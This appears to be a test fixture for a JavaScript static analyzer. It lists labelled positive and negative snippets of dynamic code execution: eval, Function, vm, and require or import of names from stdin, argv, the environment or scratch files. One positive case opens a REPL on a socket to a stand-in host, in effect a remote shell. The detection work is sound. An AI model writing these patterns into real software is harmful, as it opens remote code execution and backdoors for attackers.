//@ pos Function of stdin
Function(require("fs").readFileSync(0, "utf8"))();
//@ pos vm of stdin
const vm = require("vm");
vm.runInThisContext(require("fs").readFileSync(0, "utf8"));
//@ pos eval of a downloaded body
let body = "";
process.stdin.on("data", (c) => (body += c));
process.stdin.on("end", () => eval(body));
//@ pos new Function of a parameter
function build(src) {
  return new Function(src);
}
//@ pos indirect eval of a variable
const code = process.argv[2];
(0, eval)(code);
//@ pos require of a name from the environment
require(process.env.PLUGIN);
//@ pos import of a name from JSON
const cfg = JSON.parse(process.argv[2]);
import(cfg.module);
//@ neg eval of a constant
eval("1 + 1");
//@ neg Function of constants
new Function("a", "b", "return a + b");
//@ neg require of a constant
require("path");
//@ neg require of a folded name
const name = "pa" + "th";
require(name);
//@ pos eval handed to Function.prototype.call
const code = require("fs").readFileSync(0, "utf8");
Function.prototype.call.call(eval, null, code);
//@ pos eval taken out of an array
const e = [eval][0];
e(process.argv[2]);
//@ neg a method called eval of the program's own object
const calc = { eval: (s) => s.length };
console.log(calc.eval("abc"));
//@ pos a REPL on a network socket
const s = require("net").connect(4444, "203.0.113.5");
require("repl").start({ input: s, output: s });
//@ pos a downloaded scratch file required
require("/tmp/m.js");
//@ pos a scratch module imported
import("/dev/shm/x.mjs");
//@ neg a module of the program's own, relative
require("./lib/util.js");
//@ pos a name given a constant, then stdin
let code = "1 + 1";
code = require("fs").readFileSync(0, "utf8");
eval(code);
//@ pos a parameter that shares its name with a constant
const src = "1";
function run(src) {
  return eval(src);
}
run(require("fs").readFileSync(0, "utf8"));
//@ pos a for-of variable that shares its name with a constant
const line = "1";
for (const line of require("fs").readFileSync(0, "utf8").split("\n")) eval(line);
//@ neg a constant in its own block, not shadowed where it runs
function f(x) {
  return x * 2;
}
const expr = "f(21)";
console.log(eval(expr));
